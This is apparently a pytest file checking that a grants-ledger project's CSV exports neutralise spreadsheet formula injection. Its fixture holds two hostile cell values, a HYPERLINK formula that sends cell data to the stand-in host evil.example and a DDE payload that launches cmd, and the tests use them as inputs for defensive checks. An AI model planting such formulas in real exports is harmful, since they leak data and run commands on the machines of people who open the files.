"""CSV formula injection (issue 12): a text cell that a spreadsheet would run as a formula
(it starts with ``= + - @``, a tab or a carriage return) gets a leading ``'``, in every
CSV the project writes: the API's ``export.csv``, ``pac-grants ledger export`` and
``ledger balances --format csv``. Amounts stay numbers, negative ones included.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from pac_grants import cells
from pac_grants.cli import main
from pac_grants.ledger import Ledger
from tests.ledger_support import upsert_communes
from tests.unit.api_fixtures import AGADIR, AUTH, SALE, client_for

HOSTILE = {AGADIR: '=HYPERLINK("http://evil.example/?"&A1,"Agadir")',
           SALE: "@SUM(1+1)*cmd|'/C calc'!A0"}


@pytest.mark.parametrize(("value", "shown"), [
    ("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("Agadir", "Agadir"), ("", ""),
    ("-250000.00", "-250000.00"), ("+5", "'+5"), ("1500000000.00", "1500000000.00"),
    (-5, -5), (None, None),
])
def test_cells_are_neutralised_and_numbers_kept(value: object, shown: object) -> None:
    assert cells.safe(value) == shown


def hostile(tmp_path: Path) -> str:
    _client, ledger = client_for(tmp_path)
    rows = [{"code": code, "name_fr": name, "name_ar": "\t\u0633\u0644\u0627", "region": "+r",
             "province": "p"} for code, name in HOSTILE.items()]
    upsert_communes(ledger, rows)
    ledger.dispose()
    return f"sqlite:///{tmp_path / 'ledger.db'}"


def check(text: str, name_columns: tuple[str, ...]) -> None:
    records = list(csv.DictReader(io.StringIO(text)))
    assert records
    for record in records:
        for column in name_columns:
            value = record[column]
            assert value == "" or value[0] not in "=+-@\t\r", (column, value)
        amounts = [record[c] for c in ("amount", "allocated", "outstanding") if c in record]
        for amount in amounts:
            assert amount.lstrip("-").replace(".", "").isdigit(), amount
    names = {r["name_fr"] for r in records}
    assert "'" + HOSTILE[AGADIR] in names and "'" + HOSTILE[SALE] in names


def test_api_export_csv(tmp_path: Path) -> None:
    url = hostile(tmp_path)
    client, ledger = client_for(tmp_path, filled=False)
    try:
        response = client.get("/api/v1/cycles/2021/export.csv", headers=AUTH)
    finally:
        ledger.dispose()
    assert response.status_code == 200, url
    check(response.text, ("name_fr", "name_ar"))
    assert any(r["amount"].startswith("-") for r in csv.DictReader(io.StringIO(response.text)))


def test_cli_ledger_export(tmp_path: Path) -> None:
    url = hostile(tmp_path)
    result = CliRunner().invoke(main, ["ledger", "export", "--database-url", url,
                                       "--cycle", "2021"])
    assert result.exit_code == 0, result.stderr
    check(result.stdout, ("name_fr", "name_ar"))


def test_cli_ledger_balances_csv(tmp_path: Path) -> None:
    url = hostile(tmp_path)
    result = CliRunner().invoke(main, ["ledger", "balances", "--database-url", url, "--cycle",
                                       "2021", "--format", "csv"])
    assert result.exit_code == 0, result.stderr
    check(result.stdout, ("name_fr", "name_ar"))


def test_the_json_export_keeps_the_names_as_they_are(tmp_path: Path) -> None:
    url = hostile(tmp_path)
    book = Ledger.from_url(url)
    out = io.StringIO()
    try:
        book.export(out, "json", 2021)
    finally:
        book.dispose()
    assert HOSTILE[AGADIR].replace('"', '\\"') in out.getvalue()
